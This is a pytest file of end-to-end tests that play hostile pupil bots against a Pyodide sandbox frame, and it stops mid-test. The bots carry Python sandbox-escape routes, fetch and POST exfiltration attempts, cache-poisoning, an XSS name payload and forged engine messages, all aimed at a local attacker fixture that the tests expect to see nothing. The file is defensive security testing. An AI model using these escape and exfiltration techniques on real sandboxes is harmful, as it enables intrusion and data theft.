"""Attacks on the Bots page's sandbox, each an end-to-end test.

A pupil's bot runs in Pyodide, in a worker of the page's hidden sandbox frame (`<iframe
sandbox="allow-scripts" srcdoc=...>`: an opaque origin, a policy that allows no connection; see
docs/hosting.md, Security: pupils' bots). The bot's Python import filter is only a courtesy: a hostile bot
leaves it at once and holds all of JavaScript in its worker. These tests play such bots the way a
stranger's link brings them, and check what the design claims: no Cache Storage, IndexedDB,
localStorage, cookie, service worker or network request of any origin is reached, nothing of the
site's DOM; the only way out is a message, a proposal the engine checks; no bot patches another
bot's objects; the timers a bot starts end with its game.

The hostile bot of the first test writes what it tried, and how each way was refused, in a report
it prints (zlib and base64: a bot prints at most 4000 characters a move), read from `#bot-output`
and checked against what the servers saw and what the site's origin keeps.

What was found (the last test): a bot that flooded the sandbox frame made its opponent lose on
time, with messages or with error events; the frame now ends a started worker at the first message
it was not asked for or the first error it raises, and reads nothing more of it.
"""

from __future__ import annotations

import base64
import http.server
import json
import re
import time
import zlib
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from conftest import BOTS_SNAPSHOT_CACHE
from hosts import SUB_PATH, Host, Logged, headed_host, plain_host  # noqa: F401 - fixtures

from factorgames.bots.challenges import CHALLENGES
from factorgames.bots.share import encode as bot_link
from factorgames.classroom.assignment import Assignment, Task
from factorgames.classroom.result import Result
from factorgames.games.position import replay
from factorgames.transcript import decode

READY = "body[data-ready=true][data-idle=true]"


# ------------------------------------------------------------------------------------ the hosts


@pytest.fixture(scope="module")
def attacker():
    """A server the hostile bot tries to reach, at 127.0.0.1 and as localhost (a host the guard
    flags): it would answer anything to anyone (CORS open) and logs what it receives. It must
    receive nothing at all."""
    log = Logged()

    class Handler(http.server.BaseHTTPRequestHandler):
        def answer(self) -> None:
            log.add(self.command, self.path)
            body = b"/* pwned */"
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(body)

        do_GET = do_POST = do_PUT = do_HEAD = do_OPTIONS = answer

        def log_message(self, format, *args):  # type: ignore[no-untyped-def]
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    host = Host(server, log, "bots-sandbox-attacker")
    port = server.server_address[1]
    yield {"log": log, "url": f"http://127.0.0.1:{port}/", "elsewhere": f"http://localhost:{port}/"}
    host.stop()


def not_site_files(host: Host, site_dist: Path) -> list[str]:
    """The requests `host` received that were not for a real file of dist/: a query string, a path
    a bot made up, a method other than GET or HEAD."""
    wrong = []
    for line in host.log.all():
        method, path = line.split(" ", 1)
        parts = urlsplit(path)
        rel = unquote(parts.path).removeprefix(f"/{SUB_PATH}/")
        if (
            method not in ("GET", "HEAD")
            or parts.query
            or not parts.path.startswith(f"/{SUB_PATH}/")
            or ".." in rel.split("/")
            or not (site_dist / (rel or "index.html")).is_file()
        ):
            wrong.append(line)
    return wrong


# ------------------------------------------------------------------------------------ the page


def open_bots(page, url: str) -> None:
    page.goto(url)
    page.wait_for_selector(READY, state="attached", timeout=90_000)


def run(page, press) -> None:
    """Press something that plays, and wait until the page has played it."""
    runs = int(page.get_attribute("body", "data-runs") or 0)
    press()
    page.wait_for_selector(f"body[data-runs='{runs + 1}']", state="attached", timeout=120_000)


def games(page) -> list[dict[str, str]]:
    return page.eval_on_selector_all(
        "#results-games li",
        "els => els.map(e => ({hash: e.dataset.hash, winner: e.dataset.winner, words: e.textContent}))",
    )


def table(page) -> dict[str, list[str]]:
    """The results table: each row's cells after the name, by the player's name."""
    rows = page.eval_on_selector_all(
        "#results-table tbody tr", "rows => rows.map(r => [...r.cells].map(c => c.textContent))"
    )
    return {row[0]: row[1:] for row in rows}


def seats(game: dict[str, str]) -> list[str]:
    """The players' names of a listed game, seat 1 first (its words begin "A – B: ...")."""
    return game["words"].split(": ", 1)[0].split(" – ")


def engine_winner(game_hash: str) -> int | None:
    """The winning seat of a finished game as the engine reads it from its record alone: the winner
    of a game played to its end, else the seat to move lost it (a forfeit: an error, a refused
    move, a bot stopped)."""
    record = decode(game_hash)
    position = replay(record.setup.rules, record.moves)
    outcome = position.outcome()
    if outcome is not None:
        return outcome.winner
    return 3 - position.to_move


def choose_game(page, game: str, opponent: str | None = None, first: str | None = None) -> None:
    page.select_option("#match-game", game)
    if opponent is not None:
        page.select_option("#match-opponent", opponent)
    if first is not None:
        page.select_option("#match-first", first)


def keep_bots(page, site: str, bots: list[tuple[str, str]]) -> dict[str, str]:
    """Open each bot's link on the Bots page, as a pupil opening links does (the first opens the
    page, the others change its address); the bots' ids by name. The last one is in the editor."""
    for k, (name, code) in enumerate(bots):
        link = bot_link(name, code)
        if k == 0:
            open_bots(page, f"{site}bots.html#{link}")
        else:
            page.evaluate("(hash) => { location.hash = hash; }", link)
        page.wait_for_selector(f"#bot-list option:checked:text-is('{name}')", state="attached", timeout=60_000)
    return dict(page.eval_on_selector_all("#bot-list option", "els => els.map(e => [e.textContent, e.value])"))


# ------------------------------------------------------------------------- what bots start from

ESCAPE = r'''
B = print.__globals__["builtins"]  # out of the import filter: the sandbox's own builtins module
json = B.__import__("json")
js = B.__import__("js")
ffi = B.__import__("pyodide.ffi", fromlist=["create_proxy"])


def real_global():
    """The worker's global object. The interpreter that booted Python (and made the snapshot the
    others start from) gives `js` as Pyodide's stand-in for it, a Proxy whose getters fail
    ("Illegal invocation"); the getter of `self`, called on nothing, gives the real one."""
    try:
        js.navigator
        return js
    except BaseException:
        pass
    holder = js
    while holder is not None:
        found = js.Object.getOwnPropertyDescriptor(holder, "self")
        if found is not None:
            return found.get.call(None)
        holder = js.Object.getPrototypeOf(holder)
    return js


G = real_global()


def obj(**fields):
    return G.JSON.parse(json.dumps(fields))
'''
"""How a hostile bot starts: all of JavaScript in its worker, as `G`."""

HONEST_SMALLEST = """
def choose(position):
    print("honest")
    return position.legal_moves()[0]
"""


# --------------------------------------------------------------------- 1. the stranger's link

HOSTILE = (
    r"""
import base64, json, os, zlib

SITE = "__SITE__"            # the site's own address
ATTACK = "__ATTACK__"        # a server of the attacker's, at 127.0.0.1
ELSEWHERE = "__ELSEWHERE__"  # the same server, named localhost
R = {}                       # probe -> "refused: why" | "absent" | "ok: what" | "pending"
LATER = []                   # (probe, reader): what settles later, read again at each move


def note(key, value):
    R[key] = str(value).replace("\n", " ")[:110]


def refusal(e):
    if type(e).__name__ == "JsException":
        return "refused: " + str(e).split("\n")[0]
    return "refused: " + type(e).__name__ + ": " + str(e).split("\n")[0]


def attempt(key, fn):
    try:
        value = fn()
    except BaseException as e:
        note(key, refusal(e))
        return None
    if value != "pending":  # else noted when it settles
        note(key, "ok: " + repr(value)[:70])
    return value


def report():
    print("REPORT<" + base64.b64encode(zlib.compress(json.dumps(R, sort_keys=True).encode(), 9)).decode() + ">")


# ---- 1. out of the import filter, to `js`, by every route there is

def by_plain_import():
    import js
    return js


def by_pyodide_ffi():
    from pyodide.ffi import create_proxy
    return create_proxy


def by_print_self():
    return print.__self__.__import__("js")


def by_print_globals():
    return print.__globals__["builtins"].__import__("js")


def by_subclasses():
    loader = [c for c in object.__subclasses__() if c.__name__ == "BuiltinImporter"][0]
    return loader.find_spec.__func__.__globals__["__import__"]("js")


def by_frame():
    try:
        raise RuntimeError("where am I")
    except RuntimeError as e:
        frame = e.__traceback__.tb_frame
    while "sys" not in frame.f_globals:
        frame = frame.f_back
    return frame.f_globals["sys"].modules["builtins"].__import__("js")


def by_function_globals():
    b = json.dumps.__globals__["__builtins__"]
    return (b["__import__"] if isinstance(b, dict) else b.__import__)("js")


def by_own_builtins():
    return __builtins__["__import__"].__globals__["builtins"].__import__("js")


def by_relative_import():
    ffi = __import__("", {"__package__": "pyodide", "__name__": "pyodide.bot"}, None, ("ffi",), 1).ffi
    return ffi.sys.modules["builtins"].__import__("js")


for route in (by_plain_import, by_pyodide_ffi, by_print_self, by_print_globals, by_subclasses, by_frame,
              by_function_globals, by_own_builtins, by_relative_import):
    attempt("escape:" + route.__name__, route)
"""
    + ESCAPE
    + r'''
js = G
code = __import__("", {"__package__": "pyodide", "__name__": "pyodide.bot"}, None, ("code",), 1).code


def js_error(e):
    try:
        return "refused: " + str(e.name) + ": " + str(e.message).split("\n")[0]
    except BaseException:
        return "refused: " + str(e)


def settle(key, make):
    """A promise's end, noted when it comes (a later move prints it)."""
    try:
        promise = make()
    except BaseException as e:
        note(key, refusal(e))
        return
    note(key, "pending")
    promise.then(lambda v: note(key, "ok: " + str(v)[:60]), lambda e: note(key, js_error(e)))


def later(key, reader):
    note(key, "pending")
    LATER.append((key, reader))
    return "pending"


# ---- 2. the Python side: the engine's files, the solver

def walk(top):
    found = []
    for folder, dirs, files in os.walk(top):
        found += [folder + "/" + name for name in dirs + files]
    return found


attempt("info:engine-files", lambda: sorted(os.listdir("/home/pyodide/site/factorgames")))
attempt("info:engine-solver-files", lambda: [n for n in os.listdir("/home/pyodide/site/factorgames") if "solve" in n])
attempt("files:solve", lambda: os.listdir("/home/pyodide/site/factorgames/solve"))
attempt("info:solver-files", lambda: [p for p in walk("/home") + walk("/tmp") if "solve" in p])
attempt("import:factorgames.solve", lambda: B.__import__("factorgames.solve"))
attempt("import:factorgames.play.players", lambda: B.__import__("factorgames.play.players"))
attempt("import:relative-solve", lambda: __import__("", {"__package__": "factorgames.bots",
                                                         "__name__": "factorgames.bots.x"}, None, ("solve",), 2).solve)


# ---- 3. with all of JavaScript

VIOLATIONS = {}


def heard(event):
    key = str(event.effectiveDirective) + " " + str(event.blockedURI).split("/")[0]
    VIOLATIONS[key] = VIOLATIONS.get(key, 0) + 1


attempt("info:listen", lambda: js.addEventListener("securitypolicyviolation", ffi.create_proxy(heard)))
attempt("info:global", lambda: str(js.constructor.name))
attempt("info:location", lambda: js.location.href)
attempt("info:origin", lambda: js.origin)
attempt("info:isSecureContext", lambda: js.isSecureContext)


def present(name, holder):
    try:
        value = getattr(holder, name)
    except AttributeError:
        return "absent"
    except BaseException as e:
        return refusal(e)
    return "absent" if value is None else "ok: present " + str(value)[:40]


for name in ("document", "window", "parent", "top", "opener", "frames", "localStorage", "sessionStorage",
             "cookieStore", "caches", "SharedWorker", "importScripts", "RTCPeerConnection", "WebTransport", "open"):
    note("global:" + name, present(name, js))
for name in ("sendBeacon", "serviceWorker", "storage", "locks"):
    note("navigator:" + name, present(name, js.navigator))

# code from text
attempt("eval", lambda: js.eval("1 + 1"))
attempt("Function", lambda: js.Function("return 1")())
attempt("pyodide.code.run_js", lambda: code.run_js("1 + 1"))
def string_timer():
    if js.setTimeout("self.fgStringTimer = 1", 0) == 0:
        raise RuntimeError("no timer (its id is 0)")
    return later("setTimeout(string)", lambda: "ok: it ran" if "fgStringTimer" in list(js.Object.keys(js)) else "refused: never ran")


attempt("setTimeout(string)", string_timer)

# storage (indexedDB.databases() is refused too, but Chromium then also reports an uncaught error:
# left out, as the page's guard fails a test on any)
settle("caches.open", lambda: js.caches.open("factorgames-bot"))
settle("storage.getDirectory", lambda: js.navigator.storage.getDirectory())
settle("locks.query", lambda: js.navigator.locks.query())


def idb():
    request = js.indexedDB.open("factorgames-bot")
    return later("indexedDB.open", lambda: ("refused: " + str(request.error.name)) if request.readyState == "done"
                 and request.error else "ok: " + str(request.readyState))


attempt("indexedDB.open", idb)
attempt("info:BroadcastChannel", lambda: js.BroadcastChannel.new("factorgames").postMessage("pwned by a bot"))

# the network
settle("fetch:site", lambda: js.fetch(SITE + "index.html?bot=fetch"))
settle("fetch:site-pwned", lambda: js.fetch(SITE + "pwned"))
settle("fetch:attacker", lambda: js.fetch(ATTACK + "fetch"))
settle("fetch:attacker-no-cors", lambda: js.fetch(ATTACK + "no-cors", obj(mode="no-cors", keepalive=True)))
settle("fetch:attacker-POST", lambda: js.fetch(ATTACK + "post", obj(method="POST", body="secret")))
settle("fetch:elsewhere", lambda: js.fetch(ELSEWHERE + "fetch"))


def xhr(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()
    return request.status


attempt("xhr-sync:site", lambda: xhr(SITE + "index.html?bot=xhr"))
attempt("xhr-sync:attacker", lambda: xhr(ATTACK + "xhr"))
attempt("pyodide.http.open_url", lambda: B.__import__("pyodide.http", fromlist=["open_url"]).open_url(ATTACK + "open_url"))


def pyfetch():
    note("pyodide.http.pyfetch", "pending")
    task = B.__import__("asyncio").ensure_future(B.__import__("pyodide.http", fromlist=["pyfetch"]).pyfetch(ATTACK + "pyfetch"))
    task.add_done_callback(lambda t: note("pyodide.http.pyfetch", refusal(t.exception()) if t.exception()
                                          else "ok: %s" % t.result().status))
    return "pending"


attempt("pyodide.http.pyfetch", pyfetch)


def socket(key, url):
    ws = js.WebSocket.new(url)
    return later(key, lambda: "refused: closed" if ws.readyState == 3 else "ok: readyState %s" % ws.readyState)


attempt("WebSocket:attacker", lambda: socket("WebSocket:attacker", ATTACK.replace("http:", "ws:") + "ws"))
attempt("WebSocket:site", lambda: socket("WebSocket:site", SITE.replace("http:", "ws:") + "ws"))


def events():
    source = js.EventSource.new(ATTACK + "events")
    return later("EventSource", lambda: "refused: closed" if source.readyState == 2 else "ok: readyState %s" % source.readyState)


attempt("EventSource", events)
settle("FontFace", lambda: js.FontFace.new("bot", "url(" + ATTACK + "font.woff)").load())


def watch(key, worker):
    """A worker's first message, or the error event of one that could not start (kept from
    reaching the frame)."""
    def failed(event):
        event.preventDefault()
        note(key, "refused: error event")
    worker.addEventListener("message", ffi.create_proxy(lambda e: note(key, "ok: " + str(e.data)[:40])))
    worker.addEventListener("error", ffi.create_proxy(failed))
    return later(key, lambda: R[key])


def blob(text, kind="text/javascript"):
    return js.URL.createObjectURL(js.Blob.new([text], obj(type=kind)))


attempt("Worker:attacker", lambda: watch("Worker:attacker", js.Worker.new(ATTACK + "worker.js")))
attempt("Worker:data", lambda: watch("Worker:data", js.Worker.new(
    "data:text/javascript,fetch('" + ATTACK + "data-worker');postMessage(1)")))
attempt("Worker:module-static-import", lambda: watch("Worker:module-static-import", js.Worker.new(
    blob("import %r; postMessage('imported');" % (ATTACK + "static-import.js")), obj(type="module"))))

# A worker of its own, in plain JavaScript (no eval needed: a blob: script), trying it all again.
NESTED = """
const site = %r, attack = %r, out = {};
const tries = {
  "fetch:site": () => fetch(site + "index.html?bot=nested").then((r) => r.status),
  "fetch:attacker": () => fetch(attack + "nested-fetch").then((r) => r.status),
  "import()": () => import(attack + "nested-import.js"),
  "import(site)": () => import(site + "js/game/app.js?bot=nested"),
  "importScripts": () => importScripts(attack + "nested-import-scripts.js"),
  "xhr-sync": () => { const x = new XMLHttpRequest(); x.open("GET", attack + "nested-xhr", false); x.send(); return x.status; },
  "eval": () => eval("1 + 1"),
  "caches.put": () => caches.open("factorgames-bot").then((c) => c.put(site + "index.html", new Response("PWNED"))),
  "indexedDB": () => new Promise((ok, bad) => { const r = indexedDB.open("factorgames-bot"); r.onsuccess = () => ok("opened"); r.onerror = () => bad(r.error); }),
  "WebSocket": () => new Promise((ok, bad) => { const w = new WebSocket(attack.replace("http:", "ws:") + "nested-ws"); w.onopen = () => ok("open"); w.onerror = () => bad(new Error("error event")); }),
};
Promise.all(Object.entries(tries).map(async ([k, f]) => {
  try { out[k] = "ok: " + String(await f()).slice(0, 40); }
  catch (e) { out[k] = "refused: " + (e && e.name) + ": " + String(e && e.message).split("\\n")[0].slice(0, 80); }
})).then(() => postMessage(out));
""" % (SITE, ATTACK)


def nested_said(event):
    for key, value in event.data.to_py().items():
        note("nested:" + key, value)
    note("info:nested-worker", "reported")


def nested():
    worker = js.Worker.new(blob(NESTED))
    worker.addEventListener("message", ffi.create_proxy(nested_said))
    return "started"


note("info:nested-worker", "pending")
attempt("info:nested-worker-started", nested)
# Trusted Types: the policy name the frame's policy allows is taken (js/bots/interpreter.js), so no
# policy can be made to start a worker or a script from a string.
attempt("trustedTypes.createPolicy", lambda: js.trustedTypes.createPolicy("bots-worker", obj()))
attempt("trustedTypes.createPolicy:other", lambda: js.trustedTypes.createPolicy("mine", obj()))


def choose(position):
    for key, reader in LATER:
        try:
            note(key, reader())
        except BaseException as e:
            note(key, refusal(e))
    R["info:violations"] = sorted(VIOLATIONS.items())
    note("info:moves-asked", int(R.get("info:moves-asked", "0")) + 1)
    report()
    moves = position.legal_moves()
    return max(moves, key=lambda m: len(position.play(m).legal_moves()))  # a long game: time to settle


report()
'''
)


def hostile_bot(site: str, attack: dict) -> str:
    return (
        HOSTILE.replace("__SITE__", site)
        .replace("__ATTACK__", attack["url"])
        .replace("__ELSEWHERE__", attack["elsewhere"])
    )


def reports(page) -> list[dict]:
    """Every report the hostile bot printed on the page, oldest first."""
    text = page.locator("#bot-output").inner_text()
    return [json.loads(zlib.decompress(base64.b64decode(m))) for m in re.findall(r"REPORT<([A-Za-z0-9+/=]+)>", text)]


def refused(value: str) -> bool:
    return value.startswith("refused") or value == "absent"


STORAGE = """async () => {
  const hex = (buffer) => Array.from(new Uint8Array(buffer), (b) => b.toString(16).padStart(2, "0")).join("");
  const kept = {};
  for (const name of (await caches.keys()).sort()) {
    const cache = await caches.open(name);
    const entries = {};
    for (const request of await cache.keys()) {
      const response = await cache.match(request);
      entries[request.url] = hex(await crypto.subtle.digest("SHA-256", await response.arrayBuffer()));
    }
    kept[name] = entries;
  }
  const local = {};
  for (let k = 0; k < localStorage.length; k += 1) local[localStorage.key(k)] = localStorage.getItem(localStorage.key(k));
  const workers = await navigator.serviceWorker.getRegistrations();
  return { caches: kept, indexedDB: (await indexedDB.databases()).map((d) => `${d.name} v${d.version}`).sort(),
           localStorage: local, serviceWorkers: workers.map((r) => `${r.scope} ${r.active && r.active.scriptURL}`).sort() };
}"""


def kept(page) -> dict:
    """Everything the site's origin keeps: Cache Storage (every cache, every key, a SHA-256 of every
    body), IndexedDB's databases, localStorage, the service workers; and the context's cookies."""
    return {**page.evaluate(STORAGE), "cookies": sorted(json.dumps(c, sort_keys=True) for c in page.context.cookies())}


def settled(page, timeout: float = 90.0) -> dict:
    """What the origin keeps once the site's own writes are over (the offline cache keeping the Bots
    page's files as they come, the engine its snapshot): the same twice, four seconds apart."""
    end = time.monotonic() + timeout
    last = kept(page)
    while True:
        time.sleep(4)
        now = kept(page)
        if now == last or time.monotonic() > end:
            return now
        last = now


WAIT_FOR_CONTROLLER = """() => Promise.race([
  navigator.serviceWorker.ready.then(() => navigator.serviceWorker.controller ? true :
    new Promise((resolve) => navigator.serviceWorker.addEventListener("controllerchange", () => resolve(true)))),
  new Promise((resolve) => setTimeout(() => resolve(false), 60000)),
])"""


def first_visit(context, site: str) -> None:
    """A first visit to the site: its service worker installs and takes control."""
    first = context.new_page()
    first.goto(f"{site}index.html")
    first.wait_for_selector(READY, state="attached", timeout=90_000)
    assert first.evaluate(WAIT_FOR_CONTROLLER), "the service worker took control"
    first.close()


LISTEN_ON_CHANNEL = """() => { window.fgHeard = [];
  new BroadcastChannel("factorgames").onmessage = (event) => window.fgHeard.push(String(event.data)); }"""
"""The site's origin listens where the bot posts (a BroadcastChannel of the same name)."""

CSP_REPORT = re.compile(r"^console error: .*Content Security Policy", re.DOTALL)
"""What the browser may say on the console when the frame's policy refuses one of the bot's tries."""

HOSTILE_NAME = "<img src=x onerror=alert(1)>Bot"


@pytest.mark.parametrize("which", ["headed_host", "plain_host"])
def test_a_hostile_bot_opened_from_a_strangers_link_reaches_nothing_of_the_site(
    which, request, browser, guard_context, attacker, site_dist
):
    host: Host = request.getfixturevalue(which)
    site = host.url
    link = f"{site}bots.html#{bot_link(HOSTILE_NAME, hostile_bot(site, attacker))}"
    context = browser.new_context(viewport={"width": 1280, "height": 800}, service_workers="allow")
    guard = guard_context(context)
    try:
        first_visit(context, site)

        # The stranger's link, in a new page: the bot is kept on the device (the page's own doing),
        # its name as text. Then what the origin keeps, once the page's own writes are over.
        page = context.new_page()
        open_bots(page, link)
        assert "was opened from a link and kept on this device" in page.locator("#bots-notice").inner_text()
        assert page.locator("#bot-name").input_value() == HOSTILE_NAME
        assert page.locator("#bot-list option:checked").inner_text() == HOSTILE_NAME
        before = settled(page)
        assert before["serviceWorkers"] and before["caches"] and before["localStorage"], before.keys()
        # the interpreters' snapshot, kept as the first booted (before the bot ran): no bot changes it
        assert len(before["caches"][BOTS_SNAPSHOT_CACHE]) == 1, before["caches"].keys()
        page.evaluate(LISTEN_ON_CHANNEL)

        # The attack: "Check my bot" (in the first interpreter, the one that booted Python and
        # unpacked the bots' engine), one game against easy (each of the bot's moves prints what has
        # settled), an example's "Run".
        run(page, lambda: page.click("#bot-check"))
        at_load = reports(page)
        assert page.locator("#bot-verdict").get_attribute("data-ok") == "true", page.locator(
            "#bot-verdict"
        ).inner_text()
        choose_game(page, "game=juniper-green", "easy", "2")
        run(page, lambda: page.click("#play-one"))
        (played,) = games(page)
        assert int(played["winner"]) == engine_winner(played["hash"])
        in_game = reports(page)
        example = page.locator("#examples li").first
        example.get_by_role("button", name="Run").click()
        page.wait_for_selector("#examples li:first-child output:not(:empty)", state="attached", timeout=90_000)
        assert example.locator("output").inner_text() == "[1, 2, 3, 4, 5, 6, 7, 8, 9, 10]"
        after = settled(page)
        heard_on_channel = page.evaluate("window.fgHeard")
        page.close()

        # (c) The next visit shows the real site, nothing a bot wrote.
        again = context.new_page()
        again.goto(f"{site}index.html")
        again.wait_for_selector(READY, state="attached", timeout=90_000)
        assert re.fullmatch(r"(.+ · )?Factor Games", again.title()), again.title()
        assert again.locator("#board button[data-number]").count() > 0
        assert "pwned" not in again.content().lower()
        again.close()
    finally:
        context.close()

    # (a) Nothing the origin keeps changed; the site's own channel heard nothing.
    assert after == before
    assert heard_on_channel == []
    # (b) The site's server saw no request beyond the site's own files; the attacker's saw nothing.
    assert not_site_files(host, site_dist) == []
    assert attacker["log"].all() == []
    assert [p for p in guard.problems if not CSP_REPORT.match(p)] == []

    # (d) The bot's own report: out of the import filter (a courtesy)...
    assert at_load and in_game
    report = in_game[-1]
    assert report["escape:by_plain_import"].startswith("refused: ImportError: A bot cannot use the module js")
    assert report["escape:by_pyodide_ffi"].startswith("refused: ImportError: A bot cannot use the module pyodide")
    assert [k for k, v in report.items() if k.startswith("escape:") and v.startswith("ok: [object DedicatedWorker")]
    # ... in a worker with an opaque origin, no secure context, at a blob: address of that origin ...
    assert report["info:global"] == "ok: 'DedicatedWorkerGlobalScope'"
    assert report["info:origin"] == "ok: 'null'" and report["info:location"].startswith("ok: 'blob:null/")
    assert report["info:isSecureContext"] == "ok: False"
    # ... where every way out was refused, what settles later included (the bot moved long enough).
    assert int(report["info:moves-asked"]) >= 3
    # No worker of its own: Trusted Types refuse a worker's address as a string, and the one policy
    # name allowed is taken before any bot runs.
    assert report["info:nested-worker-started"].startswith("refused: TypeError"), report["info:nested-worker-started"]
    assert report["info:nested-worker"] == "pending"
    ways = {k: v for k, v in report.items() if not k.startswith(("info:", "escape:"))}
    assert len(ways) >= 40 and [k for k in ways if k.startswith("nested:")] == []
    assert refused(ways["trustedTypes.createPolicy"]) and refused(ways["trustedTypes.createPolicy:other"])
    assert {k: v for k, v in ways.items() if not refused(v)} == {}
    # The frame's policy said no: to every connection and a font (connect-src, font-src); to eval and
    # to a worker from a string (a data: one included) by Trusted Types, before script-src and
    # worker-src are asked; to a policy of the bot's own.
    directives = {key.split(" ")[0] for key, _count in report["info:violations"]}
    wanted = {"connect-src", "font-src", "require-trusted-types-for", "trusted-types"}
    assert wanted <= directives, report["info:violations"]
    # In the first interpreter (the only one that unpacked the bots' engine): no solver to read.
    first = at_load[-1]
    assert first["info:engine-files"].startswith("ok: ['BUILD', '__init__.py', 'bots'")
    assert first["info:engine-solver-files"] == "ok: []" and first["info:solver-files"] == "ok: []"
    assert {
        k: v for k, v in first.items() if not k.startswith(("info:", "escape:")) and not refused(v) and v != "pending"
    } == {}
    print(json.dumps(report, indent=1, sort_keys=True))  # what each way met, for the record (-s)


CLASS_TEACHER_KEY = "factorgames:class:teacher"
"""What the teacher's Class page keeps (js/shared/names.js): its assignments, results and the games
of the pupils' bots it played again."""

READY_CLASS = "body[data-mode=teacher][data-idle=true][data-bots=idle]"


def class_table(page) -> dict[str, str]:
    """The teacher's table: each pupil's first mark, by the pupil's name as shown."""
    rows = page.eval_on_selector_all(
        ".class-table tbody tr", "rows => rows.map(r => [r.cells[0].textContent, r.cells[1].textContent])"
    )
    return dict(rows)


@pytest.mark.parametrize("which", ["headed_host", "plain_host"])
def test_a_hostile_bot_handed_in_as_a_pupils_result_reaches_nothing_of_the_teachers_class(
    which, request, browser, guard_context, attacker, site_dist
):
    """The Class page plays again the bot a pupil's result carries, in the same sandbox frame as
    the Bots page: a stranger's result link whose bot attacks (the hostile bot above) changes
    nothing the teacher's origin keeps but the table's own entry, reaches no server, and is
    marked from its games like any bot."""
    host: Host = request.getfixturevalue(which)
    site = host.url
    challenge = next(c for c in CHALLENGES if c.id == "beat-perfect")  # three short games
    assignment = Assignment("Bots", (Task(challenge.code, "bot", challenge=challenge.id),), seed=7)
    honest = Result("Ada", assignment, (None,), ("def choose(position):\n    return position.legal_moves()[0]\n",))
    hostile = Result("<img src=x onerror=alert(1)>", assignment, (None,), (hostile_bot(site, attacker),))
    context = browser.new_context(viewport={"width": 1280, "height": 800}, service_workers="allow")
    guard = guard_context(context)
    try:
        first_visit(context, site)

        # An honest pupil's result first: the teacher's page boots its sandbox and plays the bot.
        teacher = context.new_page()
        teacher.goto(f"{site}class.html#r={honest.code()}")
        teacher.wait_for_selector(READY_CLASS, state="attached", timeout=180_000)
        assert list(class_table(teacher)) == ["Ada"]
        before = settled(teacher)
        teacher.evaluate(LISTEN_ON_CHANNEL)

        # The stranger's result link, opened on the same page.
        teacher.evaluate("(hash) => { location.hash = hash; }", f"r={hostile.code()}")
        teacher.wait_for_selector(".class-table tbody tr >> nth=1", state="attached", timeout=60_000)
        teacher.wait_for_selector(READY_CLASS, state="attached", timeout=300_000)
        marks = class_table(teacher)
        after = settled(teacher)
        heard_on_channel = teacher.evaluate("window.fgHeard")
        assert teacher.locator(".class-table img").count() == 0, "a pupil's name is text"
        teacher.close()
    finally:
        context.close()

    # Marked from its games, played to their end here (the bot took the move leaving most replies).
    assert marks["<img src=x onerror=alert(1)>"].startswith(("Passed!", "Not yet.")), marks
    # Nothing the origin keeps changed but the table's own entry, which holds the new result and
    # its bot's games; the site's own channel heard nothing.
    kept_before = json.loads(before["localStorage"].pop(CLASS_TEACHER_KEY))
    kept_after = json.loads(after["localStorage"].pop(CLASS_TEACHER_KEY))
    assert after == before
    assert kept_after["assignments"] == kept_before["assignments"]
    assert kept_after["results"] == [*kept_before["results"], hostile.code()]
    assert len(kept_after["runs"]) == 2 and set(kept_before["runs"]) < set(kept_after["runs"])
    (games,) = [g for key, g in kept_after["runs"].items() if key not in kept_before["runs"]]
    assert len(games) == challenge.games and all(g["forfeit"] is None for g in games), (
        "the bot loaded (its attacks ran as it did) and played every game to its end"
    )
    assert heard_on_channel == []
    # No request beyond the site's own files; the attacker's server heard nothing.
    assert not_site_files(host, site_dist) == []
    assert attacker["log"].all() == []
    assert [p for p in guard.problems if not CSP_REPORT.match(p)] == []


# ----------------------------------------------------------------- 2. forged answers and results

REVOKER = (
    ESCAPE
    + r"""
re = B.__import__("re")
# The blob: addresses every interpreter is built from (this worker's own script, and Pyodide's
# modules, named in a stack), revoked, so that no other interpreter could start.
BLOBS = set(re.findall(r"blob:null/[0-9a-f-]{36}", str(G.Error.new().stack))) | {str(G.location.href)}
for url in BLOBS:
    G.URL.revokeObjectURL(url)
print("revoked %d" % len(BLOBS))


def choose(position):
    return position.legal_moves()[0]
"""
)

FORGER = (
    ESCAPE
    + r'''
ASKED = [1]  # the page's questions to this interpreter are numbered: 1 loaded it, each move the next


def forge(now):
    """An answer to the question asked now, a win claimed in it; then answers to every question the
    page might ask, a snapshot for the interpreters to come, a fatal error, results and a table."""
    claim = json.dumps({"move": 5, "line": 1, "winner": 1, "forfeit": 2, "words": "Forger wins.",
                        "result": {"winner": 1, "forfeit": 2}, "rows": [{"name": "Forger", "wins": 99}]})
    G.postMessage(obj(type="reply", id=now, response=claim))
    for k in range(1, 51):
        G.postMessage(obj(type="reply", id=k, response=claim))
        G.postMessage(obj(type="reply", id=k, error="Honest crashed"))
    ready = obj(type="ready")
    ready.snapshot = G.Uint8Array.new(1 << 16).fill(7).buffer
    G.postMessage(ready)
    G.postMessage(obj(type="fatal", cause="version", message="forged"))
    G.postMessage(obj(type="loaded"))
    G.postMessage(obj(type="result", result={"winner": 1, "forfeit": 2, "words": "Forger wins."}))
    G.postMessage(obj(type="table", rows=[{"player": "Forger", "wins": 99}]))


def choose(position):
    ASKED[0] += 1
    forge(ASKED[0])
    return position.legal_moves()[-1]
'''
)


def test_forged_answers_snapshots_and_results_count_for_nothing(page, site_url):
    ids = keep_bots(page, site_url, [("Honest", HONEST_SMALLEST), ("Revoker", REVOKER), ("Forger", FORGER)])
    page.select_option("#bot-list", ids["Revoker"])
    run(page, lambda: page.click("#bot-check"))
    assert page.locator("#bot-verdict").get_attribute("data-ok") == "true", page.locator("#bots-notice").inner_text()
    revoked = re.search(r"revoked (\d+)", page.locator("#bot-output").inner_text())
    assert revoked and int(revoked.group(1)) >= 2, page.locator("#bot-output").inner_text()  # its script's, Pyodide's
    # The forger in the editor: a series against the honest bot.
    page.select_option("#bot-list", ids["Forger"])
    choose_game(page, "game=factor-chain-challenge", ids["Honest"], "alternate")
    page.fill("#match-games", "4")
    page.fill("#match-seed", "2")
    run(page, lambda: page.click("#play-series"))
    played = games(page)
    assert len(played) == 4
    wins = {"Honest": 0, "Forger": 0}
    for game in played:
        record = decode(game["hash"])
